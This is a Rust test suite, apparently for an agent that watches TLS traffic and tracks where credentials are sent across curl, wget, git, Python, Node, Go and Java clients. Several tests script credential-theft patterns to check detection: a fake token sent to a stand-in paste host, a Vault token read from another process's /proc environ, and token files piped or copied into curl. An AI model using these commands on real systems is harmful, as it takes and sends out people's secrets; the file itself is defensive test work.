//! Real clients with real servers: every credential that they present is observed, with proof, at
//! its own destination and no other.

use anyhow::{Context as _, Result, ensure};
use lab::{agent::Agent, client, wait_for, web::WebServer};
use std::{
    collections::BTreeSet,
    fmt::Write as _,
    path::{Path, PathBuf},
    process::Command,
    sync::{
        LazyLock, Mutex, MutexGuard,
        atomic::{AtomicU32, Ordering},
    },
    time::Duration,
};
use tempfile::TempDir;

struct PresentLab {
    agent: Agent,
    servers: [WebServer; 2],
    directory: TempDir,
}

static SCENE: LazyLock<Mutex<PresentLab>> = LazyLock::new(|| {
    let build = || -> Result<PresentLab> {
        ensure!(
            lab::is_root(),
            "the scenarios need root; `cargo xtask test` skips them without"
        );
        let directory = tempfile::tempdir()?;
        let agent = Agent::start(directory.path(), &[])?;
        let scene = PresentLab {
            agent,
            servers: [
                WebServer::start("127.0.0.1")?,
                WebServer::start("127.0.0.2")?,
            ],
            directory,
        };
        let node = Command::new("node")
            .args(["-p", "process.execPath"])
            .output()?;
        let node = String::from_utf8(node.stdout)?;
        watched(&scene, node.trim(), || {
            Command::new("node")
                .args(["-e", "setTimeout(() => {}, 100)"])
                .status()
                .is_ok_and(|status| status.success())
        })?;
        Ok(scene)
    };
    Mutex::new(build().expect("the scene is set"))
});

fn scene() -> MutexGuard<'static, PresentLab> {
    SCENE
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
}

/// One request: to which server, with which header, and the secret in it.
#[derive(Clone, Debug)]
struct ClientRequest {
    server: usize,
    header: &'static str,
    value: String,
    secret: String,
    scheme: &'static str,
}

/// Makes secrets unique.
static NUMBER: AtomicU32 = AtomicU32::new(0);

impl ClientRequest {
    fn new(scheme: &'static str, server: usize) -> Self {
        let number = NUMBER.fetch_add(1, Ordering::Relaxed);
        let (header, secret, value) = match scheme {
            "Bearer" => {
                let secret = format!("FAKE.bearer-{number:024}");
                ("Authorization", secret.clone(), format!("Bearer {secret}"))
            }
            "Basic" => {
                let secret = format!("RkFLRTpGQUtF{number:012}");
                ("Authorization", secret.clone(), format!("Basic {secret}"))
            }
            "SigV4" => {
                let secret = format!("AKIAFAKE{number:012}");
                let value = format!(
                    "AWS4-HMAC-SHA256 Credential={secret}/20260101/eu-west-1/s3/aws4_request, SignedHeaders=host, Signature=00"
                );
                ("Authorization", secret, value)
            }
            _ => {
                let secret = format!("FAKE-api-key-{number:020}");
                ("X-Api-Key", secret.clone(), secret)
            }
        };
        Self {
            server,
            header,
            value,
            secret,
            scheme,
        }
    }
}

const SCHEMES: [&str; 4] = ["Bearer", "Basic", "API key", "SigV4"];

/// A client, and how it makes requests that are given as URL, header and value.
struct HttpClient {
    name: &'static str,
    stack: &'static str,
    http: &'static str,
    /// Whether its use can be observed; otherwise it is a declared gap.
    seen: bool,
    run: fn(&PresentLab, &[String]) -> Option<Command>,
}

fn with_arguments(program: &str, first: &[&str], requests: &[String]) -> Option<Command> {
    let mut command = Command::new(program);
    command.args(first).args(requests);
    Some(command)
}

fn node(how: &str, requests: &[String]) -> Option<Command> {
    with_arguments("node", &[&client("node_client.js"), how], requests)
}

/// A Python library, or `None` if it is not installed.
fn python(how: &str, requests: &[String]) -> Option<Command> {
    let module = how.trim_end_matches('2');
    let there = Command::new("python3")
        .args(["-c", &format!("import {module}")])
        .output()
        .is_ok_and(|output| output.status.success());
    there.then(|| with_arguments("python3", &[&client("python_http.py"), how], requests))?
}

/// Git requests a repository that does not exist, so it exits with 128.
fn git(version: &str, requests: &[String]) -> Option<Command> {
    each(
        &format!(
            "(git -c http.sslVerify=false -c http.version={version} -c \"http.extraHeader=$2: $3\" ls-remote \"$1\"; test $? = 128)"
        ),
        requests,
    )
}

/// One call per request, in a shell.
fn each(script: &str, requests: &[String]) -> Option<Command> {
    let script = format!("while [ $# -ge 3 ]; do {script} || exit 1; shift 3; done");
    with_arguments("bash", &["-c", &script, "client"], requests)
}

/// Runs a program until it is observed: the first moments of a new program are a declared gap.
fn watched(scene: &PresentLab, program: &str, run: impl Fn() -> bool) -> Result<()> {
    let line = format!("TLS probes attached file={program} ");
    wait_for(
        "the new program is watched",
        Duration::from_secs(10),
        || {
            ensure!(run(), "{program} cannot be run");
            Ok(scene.agent.log_text().contains(&line).then_some(()))
        },
    )
}

/// A request without a credential, which makes the program known.
fn plain(scene: &PresentLab, program: &Path) -> Command {
    let mut command = Command::new(program);
    let address = format!("https://{}/", scene.servers[0].address);
    command.args(["1.1", &address, "X-Plain", "x"]);
    command
}

/// The program built from `clients/go`, or `None` without Go.
fn go(scene: &PresentLab, flags: &[&str], version: &str, requests: &[String]) -> Option<Command> {
    let program = scene
        .directory
        .path()
        .join(format!("go-client{}", flags.len()));
    if !program.exists() {
        let built = Command::new("go")
            .arg("build")
            .args(flags)
            .arg("-o")
            .arg(&program)
            .arg("main.go")
            .current_dir(client("go"))
            .env("GOCACHE", scene.directory.path().join("go-cache"))
            .env("GOFLAGS", "-mod=mod")
            .env("GO111MODULE", "off")
            .status()
            .ok()?;
        if !built.success() {
            return None;
        }
        watched(scene, &program.display().to_string(), || {
            plain(scene, &program).status().is_ok()
        })
        .ok()?;
    }
    with_arguments(&program.display().to_string(), &[version], requests)
}

const CLIENTS: &[HttpClient] = &[
    HttpClient {
        name: "curl",
        stack: "OpenSSL 3",
        http: "1.1",
        seen: true,
        run: |_, requests| {
            each(
                "curl -sSk --http1.1 -o /dev/null -H \"$2: $3\" \"$1\"",
                requests,
            )
        },
    },
    HttpClient {
        name: "curl",
        stack: "OpenSSL 3",
        http: "2",
        seen: true,
        run: |_, requests| {
            each(
                "curl -sSk --http2 -o /dev/null -H \"$2: $3\" \"$1\"",
                requests,
            )
        },
    },
    HttpClient {
        name: "Python http.client",
        stack: "OpenSSL 3",
        http: "1.1",
        seen: true,
        run: |_, requests| with_arguments("python3", &[&client("python_client.py")], requests),
    },
    HttpClient {
        name: "Python asyncio",
        stack: "OpenSSL 3",
        http: "1.1",
        seen: true,
        run: |_, requests| with_arguments("python3", &[&client("python_parallel.py")], requests),
    },
    HttpClient {
        name: "Python requests",
        stack: "OpenSSL 3",
        http: "1.1",
        seen: true,
        run: |_, requests| python("requests", requests),
    },
    HttpClient {
        name: "Python httpx",
        stack: "OpenSSL 3",
        http: "1.1",
        seen: true,
        run: |_, requests| python("httpx", requests),
    },
    HttpClient {
        name: "Python httpx",
        stack: "OpenSSL 3",
        http: "2",
        seen: true,
        run: |_, requests| python("httpx2", requests),
    },
    HttpClient {
        name: "wget",
        stack: "GnuTLS",
        http: "1.1",
        seen: true,
        run: |_, requests| {
            each(
                "wget -q --no-check-certificate --header \"$2: $3\" -O /dev/null \"$1\"",
                requests,
            )
        },
    },
    HttpClient {
        name: "git",
        stack: "GnuTLS",
        http: "1.1",
        seen: true,
        run: |_, requests| git("HTTP/1.1", requests),
    },
    HttpClient {
        name: "git",
        stack: "GnuTLS",
        http: "2",
        seen: true,
        run: |_, requests| git("HTTP/2", requests),
    },
    HttpClient {
        name: "Node.js https",
        stack: "OpenSSL, static",
        http: "1.1",
        seen: true,
        run: |_, requests| node("https", requests),
    },
    HttpClient {
        name: "Node.js fetch",
        stack: "OpenSSL, static",
        http: "1.1",
        seen: true,
        run: |_, requests| node("fetch", requests),
    },
    HttpClient {
        name: "Node.js http2",
        stack: "OpenSSL, static",
        http: "2",
        seen: true,
        run: |_, requests| node("http2", requests),
    },
    HttpClient {
        name: "Go net/http",
        stack: "crypto/tls",
        http: "1.1",
        seen: true,
        run: |scene, requests| go(scene, &[], "1", requests),
    },
    HttpClient {
        name: "Go net/http, stripped",
        stack: "crypto/tls",
        http: "2",
        seen: true,
        run: |scene, requests| go(scene, &["-ldflags=-s -w"], "2", requests),
    },
    HttpClient {
        name: "Java HttpClient",
        stack: "its own",
        http: "2",
        seen: false,
        run: |_, requests| {
            Command::new("java").arg("-version").output().ok()?;
            with_arguments("java", &[&client("Requests.java")], requests)
        },
    },
];

fn succeed(mut command: Command) -> Result<()> {
    let output = command.output().context("the client cannot be run")?;
    ensure!(
        output.status.success(),
        "the client ended with {}: {}",
        output.status,
        String::from_utf8_lossy(&output.stderr)
    );
    Ok(())
}

impl PresentLab {
    fn arguments(&self, requests: &[ClientRequest]) -> Vec<String> {
        requests
            .iter()
            .flat_map(|request| {
                [
                    format!("https://{}/", self.servers[request.server].address),
                    request.header.to_owned(),
                    request.value.clone(),
                ]
            })
            .collect()
    }

    /// Runs a client, and checks that its use is observed, or that it is not where that is
    /// declared.
    fn check(
        &self,
        client: &HttpClient,
        command: Command,
        requests: &[ClientRequest],
    ) -> Result<&'static str> {
        if client.seen {
            self.run(command, requests)?;
            return Ok("seen");
        }
        succeed(command)?;
        // A later request was observed, so this one would have been too.
        let last = [ClientRequest::new("API key", 0)];
        let curl = each(
            "curl -sSk -o /dev/null -H \"$2: $3\" \"$1\"",
            &self.arguments(&last),
        );
        self.run(curl.context("curl")?, &last)?;
        for request in requests {
            ensure!(
                self.agent.presented(&request.secret)?.is_empty(),
                "it was seen, but a gap is declared"
            );
        }
        Ok("not seen")
    }

    /// Runs a client, and waits until each secret is known at its destination. The error tells what
    /// differs.
    fn run(&self, command: Command, requests: &[ClientRequest]) -> Result<()> {
        succeed(command)?;
        for request in requests {
            let expected = self.servers[request.server].address.to_string();
            let mut last = Vec::new();
            wait_for(
                &format!("{} at {expected}", request.scheme),
                Duration::from_secs(3),
                || {
                    last = self.agent.presented(&request.secret)?;
                    let places: BTreeSet<&str> =
                        last.iter().map(|(place, _)| place.as_str()).collect();
                    Ok(places.iter().eq([&expected.as_str()]).then_some(()))
                },
            )
            .with_context(|| format!("it is said to have gone to {last:?}"))?;
        }
        Ok(())
    }
}

#[test]
fn every_client_with_every_scheme() -> Result<()> {
    let scene = scene();
    let mut table = format!(
        "| client | TLS | HTTP | {} |\n|---|---|---|{}\n",
        SCHEMES.join(" | "),
        "---|".repeat(SCHEMES.len())
    );
    let mut failed = Vec::new();
    for client in CLIENTS {
        write!(
            table,
            "| {} | {} | {} |",
            client.name, client.stack, client.http
        )?;
        for scheme in SCHEMES {
            // To both servers, and to the first again, on the same connection if it is kept open.
            let first = ClientRequest::new(scheme, 0);
            let requests = [first.clone(), ClientRequest::new(scheme, 1), first];
            let cell = match (client.run)(&scene, &scene.arguments(&requests)) {
                None => "not here".to_owned(),
                Some(command) => match scene.check(client, command, &requests) {
                    Ok(cell) => cell.to_owned(),
                    Err(error) => {
                        failed.push(format!(
                            "{} over HTTP/{}, {scheme}: {error:#}",
                            client.name, client.http
                        ));
                        "failed".to_owned()
                    }
                },
            };
            write!(table, " {cell} |")?;
        }
        writeln!(table)?;
    }
    println!("{table}");
    if let Some(path) = std::env::var_os("KEYTRAIL_TLS_TABLE") {
        std::fs::write(PathBuf::from(path), &table)?;
    }
    ensure!(
        failed.is_empty(),
        "{}\nthe agent's log:\n{}",
        failed.join("\n"),
        scene.agent.log_text()
    );
    Ok(())
}

/// Fifty concurrent connections to two servers: none is confused with another.
fn parallel(run: impl Fn(&[String]) -> Option<Command>) -> Result<()> {
    let scene = scene();
    let requests: Vec<ClientRequest> = (0..50)
        .map(|i| ClientRequest::new("Bearer", i % 2))
        .collect();
    let command = run(&scene.arguments(&requests)).context("no such client")?;
    scene.run(command, &requests)
}

#[test]
fn fifty_connections_of_node() -> Result<()> {
    parallel(|requests| node("parallel", requests))
}

#[test]
fn fifty_connections_of_asyncio() -> Result<()> {
    parallel(|requests| with_arguments("python3", &[&client("python_parallel.py")], requests))
}

/// A program may write a head in any pieces, and Go writes 4,096 bytes at a time.
#[test]
fn a_head_in_any_pieces() -> Result<()> {
    let scene = scene();
    let script = "import socket, ssl, sys
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
host, port = sys.argv[1].split(\":\")
connection = context.wrap_socket(socket.create_connection((host, int(port))))
head = f\"GET / HTTP/1.1\\r\\nHost: a\\r\\n{sys.argv[4]}: {sys.argv[5]}\\r\\nX-After: 1\\r\\n\\r\\n\".encode()
size, often = int(sys.argv[2]), int(sys.argv[3])
for _ in range(often):
    for at in range(0, len(head), size):
        connection.sendall(head[at:at + size])
    assert connection.recv(12)[9:] == b\"200\"
    connection.recv(4096)";
    for size in [1, 2, 7, 30, 50, 60, 70] {
        for scheme in SCHEMES {
            let request = ClientRequest::new(scheme, 0);
            let mut command = Command::new("python3");
            command
                .args(["-c", script, &scene.servers[0].address.to_string()])
                .args([&size.to_string(), "2", request.header, &request.value]);
            scene
                .run(command, std::slice::from_ref(&request))
                .with_context(|| format!("{scheme} in pieces of {size}"))?;
            wait_for("both requests", Duration::from_secs(3), || {
                let places = scene.agent.presented(&request.secret)?;
                Ok((places[0].1 == 2).then_some(()))
            })
            .with_context(|| format!("{scheme} in pieces of {size}"))?;
        }
    }
    for filler in [3940, 3970, 3985] {
        let requests: Vec<ClientRequest> =
            (0..4).map(|_| ClientRequest::new("Bearer", 0)).collect();
        let Some(mut command) = go(&scene, &[], "1", &scene.arguments(&requests)) else {
            return lab::skip::skip(
                "a secret across two writes of a Go client",
                "no Go on the PATH",
            );
        };
        command.env("FILLER", filler.to_string());
        scene
            .run(command, &requests)
            .with_context(|| format!("Go with {filler}"))?;
    }
    Ok(())
}

/// A program with a TLS library of its own, compiled with landing pads, as distributions do.
#[test]
fn a_function_behind_a_landing_pad() -> Result<()> {
    if cfg!(not(target_arch = "x86_64")) {
        return lab::skip::skip("a landing pad", "only x86_64 has them");
    }
    let scene = scene();
    let program = scene.directory.path().join("pad");
    let compiled = Command::new("cc")
        .args(["-O2", "-fcf-protection=full", "-rdynamic", "-o"])
        .arg(&program)
        .arg(client("landing_pad.c"))
        .status()?;
    ensure!(compiled.success(), "cc failed");
    let code = Command::new("objdump").arg("-d").arg(&program).output()?;
    let code = String::from_utf8_lossy(&code.stdout).into_owned();
    let (_, function) = code
        .split_once("<SSL_write>:")
        .context("no such function")?;
    let mut lines = function.lines().skip(1);
    ensure!(
        lines.next().is_some_and(|line| line.contains("endbr64"))
            && lines.next().is_some_and(|line| line.contains("push")),
        "the compiler made another entry: {function}"
    );
    let token = "ghp_FAKEpadFAKEpadFAKEpadFAKEpadFAKE0001";
    let request = format!("GET / HTTP/1.1\r\nAuthorization: Bearer {token}\r\n\r\n");
    let port = scene.servers[0].address.port().to_string();
    let status = Command::new(&program).args([&port, &request]).status()?;
    ensure!(status.success(), "it ended with {status}");
    scene
        .agent
        .await_presented(token, Duration::from_secs(5), || Ok(()))
}

#[test]
fn a_leaked_token_is_a_critical_finding() -> Result<()> {
    let scene = scene();
    let address = scene.servers[0].address;
    let token = "ghp_FAKEleak00000000000000000000000000001";
    let status = Command::new("curl")
        .args(["-sSk", "-o", "/dev/null", "-H"])
        .arg(format!("Authorization: token {token}"))
        .arg("--resolve")
        .arg(format!("paste.example:{}:127.0.0.1", address.port()))
        .arg(format!("https://paste.example:{}/", address.port()))
        .status()?;
    ensure!(status.success());
    let id = scene.agent.id_of(token)?;
    let finding = scene.agent.await_finding(|finding| {
        finding["rule"] == "unexpected-hop" && finding["credential"]["id"] == id.as_str()
    })?;
    assert_eq!(finding["severity"], "critical");
    assert_eq!(finding["evidence"], "presented");
    assert_eq!(finding["credential"]["class"], "github-token");
    assert_eq!(finding["destination"]["address"], "127.0.0.1");
    assert_eq!(finding["credential"]["sources"][0]["source"], "presented");
    Ok(())
}

/// Runs a script with a token file (`$0`) and a server (`$1`), and waits until both processes are
/// known: the one that picked the token up, by which source, and the other one that presented it.
fn passed_on(token: &str, script: &str, picked_up: (&str, &str), presenter: &str) -> Result<()> {
    let scene = scene();
    let home = scene.directory.path().join(token);
    std::fs::create_dir_all(&home)?;
    let file = home.join(".vault-token");
    std::fs::write(&file, token)?;
    let address = scene.servers[1].address;
    let output = Command::new("bash")
        .args(["-e", "-c", script])
        .arg(&file)
        .arg(format!("https://{address}/"))
        .output()?;
    ensure!(
        output.status.success(),
        "the script ended with {}: {}",
        output.status,
        String::from_utf8_lossy(&output.stderr)
    );
    let id = scene.agent.id_of(token)?;
    scene.agent.await_json(&["query", "who", &id], |answer| {
        let uses = answer["uses"].as_array();
        uses.is_some_and(|uses| {
            let by = |(source, exe): (&str, &str)| {
                uses.iter().any(|used| {
                    used["source"] == source
                        && used["workload"]["name"]
                            .as_str()
                            .is_some_and(|name| name.contains(exe))
                })
            };
            by(picked_up) && by(("presented", presenter))
        })
    })?;
    let expected = (address.to_string(), 1);
    let places = scene.agent.presented(token)?;
    ensure!(
        places == [expected],
        "it is said to have gone to {places:?}"
    );
    Ok(())
}

#[test]
fn a_token_passed_through_a_pipe() -> Result<()> {
    passed_on(
        "hvs.FAKEpassedthroughapipe00000001",
        "cat \"$0\" | python3 -c 'import sys,os; os.execvp(\"curl\",[\"curl\",\"-sSk\",\"-o\",\"/dev/null\",\"-H\",\"X-Vault-Token: \"+sys.stdin.read(),sys.argv[1]])' \"$1\"",
        ("file", "/cat"),
        "/curl",
    )
}

#[test]
fn a_token_passed_over_a_unix_socket() -> Result<()> {
    // The listening one presents; the connecting one has read.
    passed_on(
        "hvs.FAKEpassedoverasocket000000001",
        "socket=$(dirname \"$0\")/socket; mkfifo \"$socket.ready\"
python3 -c '
import os, socket, sys
listener = socket.socket(socket.AF_UNIX)
listener.bind(sys.argv[2])
listener.listen()
print(flush=True)
token = listener.accept()[0].makefile().read()
os.execvp(\"curl\", [\"curl\", \"-sSk\", \"-o\", \"/dev/null\", \"-H\", \"X-Vault-Token: \" + token, sys.argv[1]])
' \"$1\" \"$socket\" > \"$socket.ready\" &
read -r _ < \"$socket.ready\"
perl -MIO::Socket::UNIX -e 'open F, $ARGV[0]; $s = IO::Socket::UNIX->new(Peer => $ARGV[1]); print $s <F>' \"$0\" \"$socket\"
wait $!",
        ("file", "/perl"),
        "/curl",
    )
}

#[test]
fn a_token_in_a_copied_file() -> Result<()> {
    passed_on(
        "hvs.FAKEinacopiedfile000000000001",
        "copy=$(dirname \"$0\")/notes.txt; cp \"$0\" \"$copy\"
curl -sSk -o /dev/null -H \"X-Vault-Token: $(cat \"$copy\")\" \"$1\"",
        ("file", "/cp"),
        "/curl",
    )
}

#[test]
fn a_token_as_the_password_of_any_user() -> Result<()> {
    passed_on(
        "hvs.FAKEinbase64ofabasicheader0001",
        "curl -sSk -o /dev/null -u \"whoever:$(cat \"$0\")\" \"$1\"",
        ("file", "/cat"),
        "/curl",
    )
}

#[test]
fn a_token_in_place_of_the_user() -> Result<()> {
    passed_on(
        "hvs.FAKEinplaceofausersname000001",
        "curl -sSk -o /dev/null -u \"$(cat \"$0\"):\" \"$1\"",
        ("file", "/cat"),
        "/curl",
    )
}

#[test]
fn a_token_from_the_environment_of_another() -> Result<()> {
    passed_on(
        "hvs.FAKEfromanotherenvironment001",
        "VAULT_TOKEN=$(cat \"$0\") sleep 30 & victim=$!
until [ \"$(readlink /proc/$victim/exe)\" = \"$(readlink -f \"$(command -v sleep)\")\" ]; do :; done
token=$(perl -0ne 'print $1 if /^VAULT_TOKEN=(.*)\\0/s' /proc/$victim/environ)
curl -sSk -o /dev/null -H \"X-Vault-Token: $token\" \"$1\"
kill $victim",
        ("environment", "/sleep"),
        "/curl",
    )
}

/// A key pair from a file, of which only the id is sent.
#[test]
fn a_key_pair_from_a_file_is_known_by_its_id() -> Result<()> {
    let scene = scene();
    let home = scene.directory.path().join("aws");
    std::fs::create_dir_all(&home)?;
    let key_id = "AKIAFAKEPRESENT00001";
    let file =
        lab::workload::aws_credentials(&home, key_id, "FAKE/present/000000000000000000000001")?;
    let address = scene.servers[0].address;
    let status = Command::new("bash")
        .args(["-c", "id=$(sed -n 's/^aws_access_key_id = //p' \"$0\"); curl -sSk -o /dev/null -H \"Authorization: AWS4-HMAC-SHA256 Credential=$id/20260101/eu/s3/aws4_request, SignedHeaders=host, Signature=00\" \"$1\""])
        .arg(&file)
        .arg(format!("https://{address}/"))
        .status()?;
    ensure!(status.success());
    let place = file.display().to_string();
    scene
        .agent
        .await_json(&["query", "where", &place], |answer| {
            let hops = answer["hops"].as_array();
            hops.is_some_and(|hops| hops.iter().any(|hop| hop["evidence"] == "presented"))
        })?;
    Ok(())
}

/// A deleted program is detached: otherwise its file could never be freed, and new ones keep
/// coming.
#[test]
fn probes_of_a_deleted_program_are_detached() -> Result<()> {
    let scene = scene();
    let node = Command::new("node")
        .args(["-p", "process.execPath"])
        .output()?;
    let node = String::from_utf8(node.stdout)?;
    let copy = scene.directory.path().join("node-of-the-day");
    std::fs::copy(node.trim(), &copy)?;
    watched(&scene, &copy.display().to_string(), || {
        Command::new(&copy)
            .args(["-e", "setTimeout(() => {}, 100)"])
            .status()
            .is_ok_and(|status| status.success())
    })?;
    std::fs::remove_file(&copy)?;
    let line = format!("TLS probes detached file={}", copy.display());
    wait_for("the links are gone", Duration::from_secs(30), || {
        Ok(scene.agent.log_text().contains(&line).then_some(()))
    })
}

/// It runs for a few milliseconds, and must be inspected before it exits, whatever the agent is
/// doing.
#[test]
fn a_program_of_a_few_milliseconds_is_observed() -> Result<()> {
    /// On a busy machine at most this many runs of a new program may be missed.
    const RUNS_MAX: usize = 10;
    let scene = scene();
    if go(&scene, &[], "1.1", &[]).is_none() {
        return lab::skip::skip("a Go program of a few milliseconds", "no Go on the PATH");
    }
    let built = scene.directory.path().join("go-client0");
    for number in 0..10 {
        let program = scene
            .directory
            .path()
            .join(format!("go-of-the-day{number}"));
        std::fs::copy(&built, &program)?;
        let runs = std::cell::Cell::new(0);
        watched(&scene, &program.display().to_string(), || {
            runs.set(runs.get() + 1);
            plain(&scene, &program).status().is_ok()
        })?;
        ensure!(runs.get() <= RUNS_MAX, "{} runs were missed", runs.get());
    }
    Ok(())
}
